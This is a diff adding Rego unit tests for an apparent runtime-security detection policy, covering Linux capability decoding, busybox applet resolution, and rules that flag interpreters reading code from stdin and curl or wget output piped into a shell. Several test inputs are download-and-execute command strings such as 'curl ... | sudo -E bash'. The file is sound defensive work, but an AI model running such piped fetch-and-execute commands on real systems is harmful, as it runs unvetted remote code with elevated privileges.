@@ -32,6 +32,7 @@ test_capabilities if {
 	not has_capability(128, 13)
 	has_capability(bits.lsh(1, 39), 39)
 	root_capabilities_in(0) == []
+
 	# cap_setuid (7), cap_net_raw (13), cap_sys_admin (21)
 	root_capabilities_in(bits.or(bits.or(128, 8192), bits.lsh(1, 21))) == ["cap_setuid", "cap_sys_admin"]
 }
@@ -41,10 +42,48 @@ exec_of(path, argv) := {"name": "sched_process_exec", "process": {}, "args": {"p
 test_exec_program if {
 	exec_program == "touch" with input as exec_of("/usr/bin/touch", ["touch", "x"])
 	exec_args_from == 1 with input as exec_of("/usr/bin/touch", ["touch", "touch"])
+
 	# busybox through a link, and as "busybox APPLET"
 	exec_program == "touch" with input as exec_of("/bin/busybox", ["touch", "x"])
 	exec_args_from == 1 with input as exec_of("/bin/busybox", ["/bin/touch", "x"])
 	exec_program == "chattr" with input as exec_of("/bin/busybox", ["busybox", "chattr", "+i", "x"])
 	exec_args_from == 2 with input as exec_of("/bin/busybox", ["busybox", "chattr", "+i", "x"])
 	not exec_program with input as exec_of("/bin/busybox", ["busybox"])
+}
+
+test_reads_program_from_stdin if {
+	reads_program_from_stdin("/usr/bin/dash", ["sh"])
+	reads_program_from_stdin("bash", ["bash", "-s", "--", "--now"])
+	reads_program_from_stdin("bash", ["bash", "-x", "-o", "pipefail"])
+	reads_program_from_stdin("sh", ["sh", "-"])
+	reads_program_from_stdin("/usr/bin/python3.11", ["python3"])
+	reads_program_from_stdin("/usr/bin/python3.11", ["python3", "-u", "-", "arg"])
+	reads_program_from_stdin("perl", ["perl"])
+	reads_program_from_stdin("node", ["node"])
+	not reads_program_from_stdin("sh", ["sh", "-c", "cat"])
+	not reads_program_from_stdin("bash", ["bash", "-ec", "cat"])
+	not reads_program_from_stdin("bash", ["bash", "script.sh"])
+	not reads_program_from_stdin("bash", ["bash", "--", "script.sh"])
+	not reads_program_from_stdin("python3", ["python3", "-m", "json.tool"])
+	not reads_program_from_stdin("python3", ["python3", "tool.py"])
+	not reads_program_from_stdin("perl", ["perl", "-ne", "print"])
+	not reads_program_from_stdin("node", ["node", "--eval", "1"])
+	not reads_program_from_stdin("awk", ["awk"])
+	not reads_program_from_stdin("busybox", ["busybox", "sh"])
+	not reads_program_from_stdin("tar", ["tar", "x"])
+}
+
+test_pipes_code_into if {
+	pipes_code_into("curl -s http://x | sh", `curl`)
+	pipes_code_into("curl -s http://x | sudo -E bash -s -- --now", `curl`)
+	pipes_code_into("wget -qO- x|bash 2>&1 >/dev/null && echo ok", `wget`)
+	not pipes_code_into("curl -s http://x | python3 -m json.tool", `curl`)
+	not pipes_code_into("curl -s http://x | grep a | sh -c cat", `curl`)
+	not pipes_code_into("curl -s http://x > f; sh f", `curl`)
+}
+
+test_command_string if {
+	command_string == "echo a | sh" with input as {"args": {"argv": ["sh", "-c", "echo a | sh", "name", "-c"]}}
+	command_string == "true" with input as {"args": {"argv": ["bash", "-lc", "true"]}}
+	not command_string with input as {"args": {"argv": ["bash", "script.sh"]}}
 }
